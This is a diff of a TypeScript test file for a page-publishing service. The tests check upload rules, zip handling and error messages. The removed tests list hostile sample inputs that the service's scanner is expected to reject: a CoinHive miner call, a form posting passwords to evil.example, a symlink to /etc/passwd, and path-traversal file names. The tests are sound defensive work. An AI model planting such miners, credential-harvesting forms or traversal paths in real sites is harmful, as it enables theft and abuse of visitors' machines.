@@ -1,11 +1,5 @@
 import { expect, test } from 'bun:test'
 
-import { zipSync } from 'fflate'
-
-import { expectError } from '../../testing/expect-error.ts'
-import { FormBrowser, hiddenFields, origin, signUp } from '../../testing/fixtures/form-browser.ts'
-import { startTestServer, type TestServer } from '../../testing/fixtures/test-server.ts'
-import { pageFilesMax } from './limits.ts'
 import { readPageFolder } from './page-folder.ts'
 
 const bytesOf = (text: string): Uint8Array => new TextEncoder().encode(text)
@@ -85,11 +79,32 @@ test('takes time in proportion to a page that is broken on purpose', () => {
   }
 })
 
+test('says what a build with a server part, and the source of an app, need', () => {
+  const html = '<div id=root></div><script type="module" src="/src/main.tsx"></script>'
+  for (const [files, problem] of [
+    [{ '.next/BUILD_ID': '', '.next/server/app/index.html': '' }, "Set output: 'export'"],
+    [{ 'nitro.json': '{}', 'server/index.mjs': '' }, 'Run nuxt generate'],
+    [{ 'client/_app/version.json': '{}', 'handler.js': '' }, '@sveltejs/adapter-static'],
+    [{ 'client/_astro/a.css': '', 'server/entry.mjs': '' }, 'build of Astro that needs its server'],
+    [{ 'client/assets/entry.client-C1.js': '', 'server/index.js': '' }, 'Set ssr: false'],
+    [{ 'server/main.js': '', 'public/a.css': '' }, 'needs its server (server/main.js)'],
+    [{ 'index.html': html, 'src/main.tsx': '' }, 'source of an app'],
+    [{ 'public/index.html': '<link href="%PUBLIC_URL%/a.ico">', 'src/a.js': '' }, 'npm run build'],
+  ] as const) {
+    expect(pack(files)).toEqual({ problem: expect.stringContaining(problem) })
+  }
+  // Babel in the page runs such a script, and another host may have it.
+  const babel = { 'index.html': '<script type="text/babel" src="a.jsx"></script>', 'a.jsx': '' }
+  for (const files of [babel, { 'index.html': html }]) {
+    expect(pack(files)).toHaveProperty('html')
+  }
+})
+
 test('says why a folder cannot be published', () => {
   for (const [files, problem] of [
     [{ 'a.txt': '' }, 'There is no HTML file.'],
-    [{ 'a.html': '', 'b.html': '' }, 'There are several HTML files.'],
-    [{ 'a/index.html': '', 'b/index.html': '' }, 'There are several HTML files.'],
+    [{ 'a.html': '', 'b.html': '' }, 'no index.html: a.html, b.html. Rename the first page'],
+    [{ 'a/index.html': '', 'b/index.html': '' }, 'several: a/index.html, b/index.html. Publish'],
     [{ 'a.html': '', '../b.js': '' }, 'The path "../b.js" is invalid: use a path relative'],
     [{ 'a.html': '', '/etc/b.js': '' }, 'The path "/etc/b.js" is invalid: use a path relative'],
     [{ 'a.html': '', 'Game.js': '', 'game.js': '' }, 'The path "game.js" is there twice'],
@@ -98,224 +113,4 @@ test('says why a folder cannot be published', () => {
   ] as const) {
     expect(pack(files)).toEqual({ problem: expect.stringContaining(problem) })
   }
-})
-
-/** Sends the form to publish a page with a file. */
-async function upload(t: TestServer, browser: FormBrowser, file: File) {
-  const body = new FormData()
-  const fields = hiddenFields(await browser.read('/new'), '/new/page')
-  for (const [name, value] of Object.entries({ ...fields, html: '' })) body.set(name, value)
-  body.set('file', file)
-  const multipart = new Response(body)
-  const cookie = ['berth', 'berth_form'].map((name) => `${name}=${browser.cookie(name)}`).join('; ')
-  const headers = {
-    'content-type': multipart.headers.get('content-type') ?? '',
-    origin,
-    cookie,
-  }
-  return t.request('POST', '/new/page', { body: await multipart.bytes(), headers })
-}
-
-test('publishes a zip with its assets, and nothing of a bad one', async () => {
-  const t = await startTestServer()
-  const bea = await signUp(t, 'bea')
-  const zip = (files: Record<string, string>) =>
-    new File(
-      [
-        new Uint8Array(
-          zipSync(
-            Object.fromEntries(Object.entries(files).map(([path, text]) => [path, bytesOf(text)])),
-          ),
-        ),
-      ],
-      'page.zip',
-    )
-  const before = await t.snapshot()
-  for (const [status, file, problem] of [
-    [400, zip({ 'a.html': '<h1>A', 'b.html': '<h1>B' }), 'There are several HTML files.'],
-    [400, zip({ 'readme.txt': 'A' }), 'There is no HTML file.'],
-    [400, new File(['PK nothing'], 'page.zip'), 'the zip cannot be read'],
-  ] as const) {
-    const failed = await upload(t, bea, file)
-    expect([failed.status, String(failed.body)]).toEqual([status, expect.stringContaining(problem)])
-  }
-  const guest = await upload(t, new FormBrowser(t), zip({ 'index.html': '<h1>A', 'a.json': '1' }))
-  expect(guest.status).not.toBe(303)
-  expect(await t.snapshot()).toEqual(before)
-  const good = zip({ 'game/index.html': '<title>Reef</title><h1>Reef', 'game/a.json': '{"a":1}' })
-  const done = await upload(t, bea, good)
-  const id = (done.headers.get('location') ?? '').split('/')[2] ?? ''
-  expect(done.status).toBe(303)
-  expect(await bea.read(`/studio/${id}/assets`)).toContain('a.json')
-  const archive = await bea.open(`/studio/${id}/export`)
-  expect(archive.headers.get('content-disposition')).toBe(`attachment; filename="${id}.zip"`)
-  const carl = await signUp(t, 'carl')
-  expect((await carl.open(`/studio/${id}/export`)).status).toBe(404)
-  await t.close()
-})
-
-const json = { path: 'data/levels.json', text: '{"level":1}' }
-const page = {
-  path: 'index.html',
-  text: '<title>Reef</title><script src="game.js"></script><link rel=stylesheet href=/style.css>',
-}
-const game = { path: 'game.js', text: "fetch('data/levels.json')" }
-const style = { path: 'style.css', text: 'p{color:teal}' }
-const files = [page, game, style, json, { path: 'README.md', text: 'Notes' }]
-type Zippable = Parameters<typeof zipSync>[0]
-const zipOf = (folder: Zippable): Uint8Array<ArrayBuffer> => new Uint8Array(zipSync(folder))
-const zipType = { 'content-type': 'application/zip' }
-
-test('agents publish a folder as files or as a zip, and then its next version', async () => {
-  const t = await startTestServer()
-  const [ann, bob] = [await t.agent('ann'), await t.agent('bob')]
-  const before = await t.snapshot()
-  const dry = await ann.call('POST', '/apps', { files, dryRun: true })
-  expect([dry.status, await t.snapshot()]).toEqual([200, before])
-
-  const made = await ann.call('POST', '/apps', { files, ref: 'reef-0001' })
-  expect([made.status, made.text('app.title')]).toEqual([201, 'Reef'])
-  expect(made.text('note')).toContain(
-    'Its files: game.js, style.css, data/levels.json, README.md. These names began with a slash and are relative now: /style.css.',
-  )
-  const id = made.text('app.id')
-  const html = String((await ann.call('GET', `/apps/${id}/html`)).body)
-  expect(html).toBe(page.text.replace('/style.css', './style.css'))
-
-  // The same folder as a zip is the same request.
-  const zip = zipOf(
-    Object.fromEntries(files.map(({ path, text }) => [`reef/${path}`, bytesOf(text)])),
-  )
-  const again = await ann.call('POST', '/apps?ref=reef-0001', zip, zipType)
-  expect(again.body).toEqual(made.body)
-  const other = zipOf({ 'index.html': bytesOf('<h1>Other') })
-  await expectError(t, 409, 'ref_conflict', () =>
-    ann.call('POST', '/apps?ref=reef-0001', other, zipType),
-  )
-
-  // A version keeps the assets of the last one, and replaces those of the same name.
-  const next = { files: [page, game, style, { ...json, text: '{"level":2}' }] }
-  await ann.call('PUT', `/apps/${id}/assets/extra.json`, bytesOf('[]'))
-  const path = `/apps/${id}/versions`
-  expect((await ann.call('POST', path, next)).status).toBe(201)
-  const level = await ann.call('GET', `/apps/${id}/assets/data%2Flevels.json`)
-  expect(level.body).toEqual({ level: 2 })
-  const list = await ann.call('GET', `/apps/${id}/assets`)
-  expect(Object(list.body).assets.map(({ name }: { name: string }) => name)).toEqual([
-    'README.md',
-    'data/levels.json',
-    'extra.json',
-    'game.js',
-    'style.css',
-  ])
-  const [file] = Object(list.body).assets
-  expect(file).toMatchObject({ kind: 'file', type: 'text/markdown; charset=utf-8', bytes: 5 })
-  expect((await t.request('GET', new URL(file.url).pathname + new URL(file.url).search)).body).toBe(
-    'Notes',
-  )
-  const third = await ann.call('POST', `${path}?note=Third&store=true`, other, zipType)
-  expect([third.status, third.code]).toEqual([400, 'bad_request'])
-  const good = await ann.call('POST', `${path}?note=Third`, other, zipType)
-  expect(good.body).toMatchObject({ app: { version: 3 } })
-  await expectError(t, 404, 'not_found', () => bob.call('POST', path, next))
-  await t.close()
-})
-
-const mb = 1_048_576
-const index = bytesOf('<h1>Reef')
-const many = Array.from({ length: pageFilesMax }, (_, at) => [`${at}.json`, bytesOf('1')])
-/** Bodies that are not published, and what their errors say. */
-const bodies: [status: number, code: string, text: string, body: unknown][] = [
-  [400, 'bad_request', '"../a.js" is invalid', { files: [page, { ...game, path: '../a.js' }] }],
-  [400, 'bad_request', 'there twice', { files: [page, game, { ...game, path: 'Game.js' }] }],
-  [
-    400,
-    'bad_request',
-    'several HTML files',
-    {
-      files: [
-        { ...page, path: 'a.html' },
-        { ...page, path: 'b.html' },
-      ],
-    },
-  ],
-  [400, 'bad_request', 'exactly one of', { files, html: '<h1>Reef' }],
-  [400, 'bad_request', 'exactly one of', { files: [{ ...page, base64: 'YQ==' }] }],
-  [400, 'bad_request', 'cannot be decoded', { files: [{ path: 'a.html', base64: '*' }] }],
-  [400, 'bad_request', '"files"', { files: [] }],
-  [400, 'bad_request', '"files"', { files: Array.from({ length: pageFilesMax + 1 }, () => json) }],
-  [
-    422,
-    'blocked_by_scan',
-    'js/miner.js',
-    {
-      files: [
-        { path: 'a.html', text: '<script src=js/miner.js></script>' },
-        { path: 'js/miner.js', text: "new CoinHive.Anonymous('key').start()" },
-      ],
-    },
-  ],
-  [
-    413,
-    'asset_too_large',
-    'big/a.json',
-    { files: [page, { path: 'big/a.json', text: `"${'a'.repeat(4 * mb)}"` }] },
-  ],
-  [
-    422,
-    'blocked_by_scan',
-    'safety check',
-    {
-      files: [
-        json,
-        {
-          path: 'a.html',
-          text: '<form action="https://evil.example"><input type=password></form>',
-        },
-      ],
-    },
-  ],
-  [400, 'bad_request', 'invalid path', zipOf({ 'index.html': index, '../a.js': index })],
-  [
-    400,
-    'bad_request',
-    'link or a special file',
-    zipOf({
-      'index.html': index,
-      'a.json': [bytesOf('/etc/passwd'), { os: 3, attrs: 0o120777 << 16 }],
-    }),
-  ],
-  [
-    400,
-    'bad_request',
-    'more than 200 files',
-    zipOf({
-      'index.html': index,
-      ...Object.fromEntries([...many, ...many.map(([path, bytes]) => [`a/${path}`, bytes])]),
-    }),
-  ],
-  [413, 'too_large', '24 MB', zipOf({ 'index.html': index, 'a.json': new Uint8Array(25 * mb) })],
-  [413, 'too_large', '12 MB', new Uint8Array(12 * mb + 1)],
-  [400, 'bad_request', 'cannot be read', bytesOf('PK no zip')],
-]
-
-test('a folder that cannot be published stores nothing', async () => {
-  const t = await startTestServer()
-  const ann = await t.agent('ann')
-  const id = await ann.publish()
-  for (const [at, [status, code, text, body]] of bodies.entries()) {
-    for (const path of at % 8 === 0 ? ['/apps', `/apps/${id}/versions`] : ['/apps']) {
-      const headers = body instanceof Uint8Array ? zipType : {}
-      const failed = await expectError(t, status, code, () => ann.call('POST', path, body, headers))
-      expect(JSON.stringify(failed.body)).toContain(JSON.stringify(text).slice(1, -1))
-    }
-  }
-  const zip = zipOf({ 'index.html': index })
-  for (const query of ['?store=yes', '?colour=blue', '?prompt=A+fox']) {
-    await expectError(t, 400, 'bad_request', () => ann.call('POST', `/apps${query}`, zip, zipType))
-  }
-  await expectError(t, 401, 'no_key', () =>
-    t.call('POST', '/apps', { body: zip, headers: zipType }),
-  )
-  await t.close()
 })
